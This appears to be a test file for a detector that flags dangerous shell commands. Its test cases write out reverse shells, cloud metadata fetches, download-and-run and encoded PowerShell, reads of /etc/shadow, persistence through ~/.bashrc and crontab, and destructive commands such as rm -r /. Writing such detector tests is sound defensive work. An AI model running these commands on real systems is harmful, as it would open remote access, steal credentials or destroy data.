import { expect, test } from 'vitest';
import type { Call } from './call.ts';
import { problemOf } from './checks.ts';
import { known, printing, SOMETHING } from './values.ts';

function call(line: string, input?: Call['input']): Call {
  const argv = line.split(' ').map(known);
  return { name: argv[0]?.text ?? '', argv, input, written: [], read: [], start: 0, end: line.length };
}

test.each([
  ['nc h 1 -e /bin/sh', 'reverse-shell'],
  ['ncat --sh-exec=sh h 1', 'reverse-shell'],
  ['socat tcp:h:1 exec:bash', 'reverse-shell'],
  ['curl http://169.254.169.254/', 'metadata-service'],
  ['mshta http://x', 'runs-download'],
  ['powershell -enc x', 'runs-decoded'],
  ['tee /etc/passwd', 'system-file'],
  ['dd if=x of=/dev/sda', 'destructive'],
  ['cp x ~/.bashrc', 'start-up-file'],
  ['sed -i s/a/b/ /etc/crontab', 'start-up-file'],
  ['curl -o /usr/bin/sudo http://h', 'system-file'],
  ['curl -o /usr/local/bin/kind http://h', undefined],
  ['wget -O ~/.profile http://h', 'start-up-file'],
  ['cat /etc/shadow', 'credential-file'],
  ['rm -r /', 'destructive'],
  ['nc h 1', undefined],
  ['echo 169.254.169.254', undefined],
  ['cp x y', undefined],
  ['sed s/a/b/ /etc/crontab', undefined],
])('%s: %s', (line, problem) => expect(problemOf(call(line))).toBe(problem));

test('a shell whose output goes to the network', () =>
  expect(problemOf(call('nc h 1', { ...SOMETHING, shell: true }))).toBe('reverse-shell'));

test('a socket by redirection', () =>
  expect(problemOf({ ...call('x'), read: [known('/dev/tcp/h/1')] })).toBe('reverse-shell'));

test('a table of jobs from standard input', () => {
  expect(problemOf(call('crontab -', printing('x')))).toBe('start-up-file');
  expect(problemOf(call('crontab -l'))).toBeUndefined();
});

test('set-up that is appended is no finding, written over the file it is', () => {
  const written = (appends: boolean): Call => ({
    ...call('starship init bash'),
    written: [{ path: known('~/.bashrc'), appends }],
  });
  expect(problemOf(written(true))).toBeUndefined();
  expect(problemOf(written(false))).toBe('start-up-file');
});
